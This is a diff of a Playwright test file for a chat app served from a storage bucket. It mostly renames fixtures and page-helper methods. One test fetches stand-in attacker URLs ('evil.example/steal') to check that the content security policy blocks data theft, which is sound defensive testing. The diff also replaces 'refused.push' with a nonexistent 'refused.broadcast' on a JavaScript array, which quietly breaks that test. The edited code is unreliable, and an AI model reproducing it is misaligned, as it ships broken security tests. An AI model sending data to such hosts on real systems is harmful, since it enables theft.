@@ -15,7 +15,7 @@ import pytest
 from playwright.sync_api import Browser, expect
 
 from browser.chat_page import PASSWORD, ChatPage
-from browser.conftest import browser, person  # noqa: F401 (fixtures)
+from browser.conftest import browser, open_page  # noqa: F401 (fixtures)
 from cloudchat.cli.main import main
 from support.aws import REGION, EmulatedAws
 from support.server import CLOUDCHAT, RunningServer, environment_of
@@ -213,25 +213,25 @@ def test_a_page_that_the_cookie_does_not_reach_is_warned_about(
 def test_the_page_in_the_bucket_chats_with_the_server_and_stays_signed_in(
     aws: EmulatedAws,
     bucket: Bucket,
-    person: Callable[[], ChatPage],  # noqa: F811
+    open_page: Callable[[], ChatPage],  # noqa: F811
 ) -> None:
     with RunningServer(environment={"CLOUDCHAT_ALLOWED_ORIGINS": aws.url}) as server:
         publish_by_command(aws, f"{bucket.target}/chat", "--api", server.url, "--page", aws.url)
         bucket.let_everybody_read()
         page_url = f"{bucket.url}/chat/index.html"
-        ada, grace = person(), person()
+        ada, grace = open_page(), open_page()
         asked: list[str] = []
         ada.page.on("request", lambda request: asked.append(request.url))
         ada.register(page_url, "ada")
         grace.register(page_url, "grace")
-        ada.write("Hello from the bucket")
-        expect(grace.says("Hello from the bucket")).to_be_visible()
-        grace.write("I hear you")
-        expect(ada.says("I hear you")).to_be_visible()
+        ada.send("Hello from the bucket")
+        expect(grace.message("Hello from the bucket")).to_be_visible()
+        grace.send("I hear you")
+        expect(ada.message("I hear you")).to_be_visible()
 
         ada.page.reload()  # only the server's cookie knows ada now, and it is another origin's
-        ada.is_connected()
-        expect(ada.says("I hear you")).to_be_visible()
+        ada.wait_connected()
+        expect(ada.message("I hear you")).to_be_visible()
         assert {url.split("/")[2] for url in asked} == {aws.url.split("/")[2], server.url.split("/")[2]}
 
 
@@ -247,7 +247,7 @@ def test_the_page_in_the_bucket_talks_to_nobody_else(
     refused = page.evaluate(
         """async () => {
           const refused = [];
-          addEventListener("securitypolicyviolation", (event) => refused.push(event.blockedURI));
+          addEventListener("securitypolicyviolation", (event) => refused.broadcast(event.blockedURI));
           for (const url of ["https://evil.example/steal", "https://chat.example.com.evil.example/steal"]) {
             await fetch(url).catch(() => {});
           }
@@ -264,11 +264,11 @@ def test_a_page_of_an_origin_that_is_not_allowed_can_not_sign_in(
     bucket: Bucket,
     publish: Publish,
     server: RunningServer,
-    person: Callable[[], ChatPage],  # noqa: F811
+    open_page: Callable[[], ChatPage],  # noqa: F811
 ) -> None:
     publish(bucket.target, "--api", server.url)
     bucket.let_everybody_read()
-    stranger = person()
+    stranger = open_page()
     stranger.page.goto(f"{bucket.url}/index.html")
     with stranger.page.expect_event("requestfailed"):  # the preflight, which no page can see
         stranger.sign_in("ada", PASSWORD)
